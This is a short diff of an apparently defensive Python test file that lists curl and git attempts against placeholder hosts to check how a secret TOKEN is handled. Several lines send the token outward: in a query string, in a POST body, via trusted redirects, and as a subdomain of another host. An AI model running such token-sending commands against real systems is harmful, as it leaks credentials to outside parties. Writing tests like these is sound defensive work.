@@ -31,7 +31,11 @@ SWITCH = "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Key
 ATTEMPTS = {
     **{path: f"{ASK} {SWITCH if path == 'websocket' else ''} https://{HOST}/{path}" for path in PATHS},
     "a redirect that is followed": f"{ASK} -L --location-trusted https://{HOST}/redirect",
-    "a password": f'curl -sSi -u "x:${TOKEN}" https://{HOST}/plain',
+    **{
+        f"{path} of a password": f'curl -sSi --max-time 20 -u "x:${TOKEN}" https://{HOST}/{path}'
+        for path in PATHS
+        if path != "websocket"
+    },
     "another place": f"curl -sSi 'https://{HOST}/plain?token='${TOKEN}; curl -sSi -d ${TOKEN} https://{HOST}/plain",
     "another host": f"{ASK} https://{OTHER}/; curl -sSi https://${TOKEN}.{OTHER}/",
     "git": f"git clone {URL}/repo.git; git ls-remote {URL}/error; GIT_TRACE_CURL=1 git ls-remote {URL}/repo.git",
